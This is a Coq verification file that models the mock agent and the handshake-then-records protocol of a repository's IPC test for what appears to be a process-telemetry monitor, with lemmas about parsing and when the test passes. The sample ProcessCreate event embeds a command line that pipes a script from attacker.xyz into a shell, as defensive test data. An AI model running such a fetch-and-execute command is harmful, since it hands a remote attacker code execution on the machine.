(* ===== verification/Agent.v ===== *)
(** The agent's side of the connection: the mock agent of the repository's own IPC
    test (src/linux/test_ipc.cpp), and the protocol it follows - a greeting, then
    records back to back - read off a whole byte stream.

    The agent itself is another program and not in the repository. *)

From S2P Require Export UserRecords.

Local Open Scope Z_scope.

(** [read(fd, buf, n)] on the bytes that have arrived: what it stores, and what is
    left. *)
Definition read_bytes (n : nat) (bs : list Z) : list Z * list Z := (take n bs, drop n bs).

Definition AUTH_TOKEN : list Z := str "super-secret-agent-token-12345".

(** The status byte the agent answered with, if it got that far, the first record
    it received whole, and [test_success]. *)
Record agent_result : Type := AgentResult {
  ar_status : option Z;
  ar_event : option (list Z);
  ar_success : bool;
}.

Definition refused : agent_result := AgentResult None None false.

Definition process_create_field (name : string) : field :=
  UserLayout.det UserLayout.ProcessCreateDetails name.

(** The checks of the record the test sends. *)
Definition expected_event (event : list Z) : bool :=
  (UserLayout.hv_event_type (UserLayout.read_header event)
     =? UserLayout.event_type_code UserLayout.ProcessCreate) &&
  (get_uint (process_create_field "child_pid") event =? 29314) &&
  bool_decide (cstr (get (process_create_field "child_image_path") event) = str "/bin/bash").

Definition MockAgentServerLoop (input : list Z) : agent_result :=
  let '(len_bytes, input) := read_bytes 4 input in
  if negb (length len_bytes =? 4)%nat then refused else
  let len := le_dec len_bytes in
  if 128 <=? len then refused else
  let '(token, input) := read_bytes (Z.to_nat len) input in
  if negb (Z.of_nat (length token) =? len) then refused else
  let token_buf := token ++ repeat 0 (128 - length token) in
  let status := if bool_decide (cstr token_buf = AUTH_TOKEN) then 1 else 0 in
  if status =? 0 then AgentResult (Some 0) None false else
  let '(event, _) := read_bytes UserLayout.sizeof_TelemetryEvent input in
  if (length event =? UserLayout.sizeof_TelemetryEvent)%nat
  then AgentResult (Some 1) (Some event) (expected_event event)
  else AgentResult (Some 1) None false.

(** The record the test's client sends (main, after the handshake). *)
Definition strncpy_less1 (f : field) (src out : list Z) : list Z :=
  put (Field (f_off f) (f_len f - 1)) (take (f_len f - 1) src ++ repeat 0 (f_len f - 1 - length src)) out.

Definition test_event : list Z :=
  let out := cleared_record in
  let out := put_uint (UserLayout.hdr "sequence_number") 605192 out in
  let out := put_uint (UserLayout.hdr "timestamp_ns") 1719285322100000000 out in
  let out := put_uint (UserLayout.hdr "pid") 29112 out in
  let out := put_uint (UserLayout.hdr "event_type")
               (UserLayout.event_type_code UserLayout.ProcessCreate) out in
  let out := put_uint (UserLayout.hdr "source") (UserLayout.source_code UserLayout.BPF_LSM) out in
  let out := put_uint (process_create_field "child_pid") 29314 out in
  let out := put_uint (process_create_field "real_parent_pid") 29112 out in
  let out := strncpy_less1 (process_create_field "child_image_path") (str "/bin/bash") out in
  strncpy_less1 (process_create_field "child_command_line")
    (str "/bin/bash -c 'curl http://attacker.xyz/shell.sh | sh'") out.

Lemma test_event_expected :
  length test_event = UserLayout.sizeof_TelemetryEvent /\ expected_event test_event = true.
Proof. split; vm_compute; reflexivity. Qed.

(** ** The protocol *)

(** Records of [n] bytes, back to back, and what is left over. *)
Fixpoint frames (fuel n : nat) (bs : list Z) : list (list Z) * list Z :=
  match fuel with
  | O => ([], bs)
  | S fuel =>
      if (length bs <? n)%nat then ([], bs)
      else let '(evs, rest) := frames fuel n (drop n bs) in (take n bs :: evs, rest)
  end.

(** The token, the records and the rest of a stream. *)
Definition agent_read (n : nat) (bs : list Z) : option (list Z * list (list Z) * list Z) :=
  let '(len_bytes, bs) := read_bytes 4 bs in
  if negb (length len_bytes =? 4)%nat then None else
  let len := Z.to_nat (le_dec len_bytes) in
  let '(token, bs) := read_bytes len bs in
  if negb (length token =? len)%nat then None else
  let '(evs, rest) := frames (length bs) n bs in Some (token, evs, rest).

Lemma frames_records (n fuel : nat) (evs : list (list Z)) (rest : list Z) :
  (0 < n)%nat -> Forall (fun ev => length ev = n) evs -> (length rest < n)%nat ->
  (length (concat evs ++ rest) <= fuel)%nat ->
  frames fuel n (concat evs ++ rest) = (evs, rest).
Proof.
  intros Hn Hevs Hrest. revert fuel. induction Hevs as [|ev evs Hev Hevs IH]; intros fuel Hf.
  - destruct fuel; simpl; [done|]. by destruct (Nat.ltb_spec (length rest) n); [|lia].
  - simpl concat in *. rewrite <- app_assoc in *. rewrite length_app in Hf.
    destruct fuel as [|fuel]; [lia|]. cbn [frames]. rewrite length_app.
    destruct (Nat.ltb_spec (length ev + length (concat evs ++ rest)) n); [lia|].
    rewrite drop_app_length', take_app_length' by done. by rewrite IH by lia.
Qed.

(** Reading back a greeting and the records behind it. *)
Lemma agent_read_stream (n : nat) (token : list Z) (evs : list (list Z)) (rest : list Z) :
  (0 < n)%nat -> Z.of_nat (length token) < 2 ^ 32 ->
  Forall (fun ev => length ev = n) evs -> (length rest < n)%nat ->
  agent_read n (le_enc 4 (Z.of_nat (length token)) ++ token ++ concat evs ++ rest) =
    Some (token, evs, rest).
Proof.
  intros Hn Ht Hevs Hrest. unfold agent_read, read_bytes.
  rewrite take_app_length', drop_app_length' by (by rewrite length_le_enc).
  rewrite length_le_enc. cbn [Nat.eqb negb]. rewrite le_dec_enc, wrap_small by (split; lia).
  rewrite Nat2Z.id. rewrite take_app_length, drop_app_length, Nat.eqb_refl. cbn [negb].
  by rewrite frames_records.
Qed.

(** The mock agent on a stream that starts with its token: it accepts, and checks the
    first record if that has arrived whole. *)
Lemma mock_agent_reads (rest : list Z) :
  let ev := take UserLayout.sizeof_TelemetryEvent rest in
  MockAgentServerLoop (le_enc 4 (Z.of_nat (length AUTH_TOKEN)) ++ AUTH_TOKEN ++ rest) =
    if (length ev =? UserLayout.sizeof_TelemetryEvent)%nat
    then AgentResult (Some 1) (Some ev) (expected_event ev)
    else AgentResult (Some 1) None false.
Proof.
  cbv zeta. unfold MockAgentServerLoop, read_bytes.
  rewrite take_app_length', drop_app_length' by (by rewrite length_le_enc).
  change (length (le_enc 4 (Z.of_nat (length AUTH_TOKEN)))) with 4%nat.
  change (le_dec (le_enc 4 (Z.of_nat (length AUTH_TOKEN)))) with 30. cbn [Nat.eqb negb Z.leb Z.compare Pos.compare Pos.compare_cont].
  rewrite (take_app_length' AUTH_TOKEN), (drop_app_length' AUTH_TOKEN) by done.
  change (Z.of_nat (length AUTH_TOKEN) =? 30) with true. cbn [negb].
  change (cstr (AUTH_TOKEN ++ repeat 0 (128 - length AUTH_TOKEN))) with AUTH_TOKEN.
  rewrite bool_decide_true by done. by change (1 =? 0) with false.
Qed.

(** ** main of the test

    What it observes of the server thread, the sender and the clock: whether the server
    gets to listen, what [Start] returns, the i-th reading of [IsConnected], and whether
    the server thread ends once the sender has stopped, with [test_success]. *)
Record test_run : Type := TestRun {
  server_ready : bool;
  sender_started : bool;
  is_connected : nat -> bool;
  server_ends : bool;
  test_success : bool;
}.

(** [while (!sender->IsConnected() && retries < 50)]: the number of retries made. *)
Fixpoint wait_connected (connected : nat -> bool) (retries more : nat) : nat :=
  if connected retries then retries else
  match more with O => retries | S more => wait_connected connected (S retries) more end.

(** The exit code, or [None] when the test does not return: the first loop waits for a
    server that gave up, a join for one that still waits for a client.  What SendEvent
    returns is printed only. *)
Definition ipc_test_main (o : test_run) : option Z :=
  if negb (server_ready o) then None else
  let join (code : Z) := if server_ends o then Some code else None in
  if negb (sender_started o) then join 1 else
  let retries := wait_connected (is_connected o) 0 50 in
  if negb (is_connected o (S retries)) then join 1 else
  join (if test_success o then 0 else 1).

Lemma wait_connected_bound (connected : nat -> bool) (i n : nat) :
  (i <= wait_connected connected i n <= i + n)%nat /\
  (connected (wait_connected connected i n) = false -> wait_connected connected i n = i + n)%nat.
Proof.
  revert i. induction n as [|n IH]; intros i; simpl; destruct (connected i) eqn:Hi;
    try (split; [lia | congruence || lia]).
  destruct (IH (S i)) as [H1 H2]. split; [lia|]. intros H. specialize (H2 H). lia.
Qed.

(** The test passes only after the sender has been seen connected twice in a row within
    52 readings, or after it has been seen unconnected 51 times and then connected. *)
Lemma ipc_test_passes (o : test_run) :
  ipc_test_main o = Some 0 ->
  test_success o = true /\ server_ends o = true /\
  exists i, (i <= 50)%nat /\ is_connected o (S i) = true /\ (is_connected o i = true \/ i = 50%nat).
Proof.
  unfold ipc_test_main.
  destruct (server_ready o), (sender_started o), (server_ends o); cbn [negb]; try done; [|by case_match].
  pose proof (wait_connected_bound (is_connected o) 0 50) as [Hb Hw].
  destruct (is_connected o (S _)) eqn:Hc; [|done]. destruct (test_success o); [|done]. intros _.
  do 2 (split; [done|]). exists (wait_connected (is_connected o) 0 50). split; [lia|]. split; [done|].
  destruct (is_connected o (wait_connected _ _ _)) eqn:Hi; [by left | right; by apply Hw].
Qed.
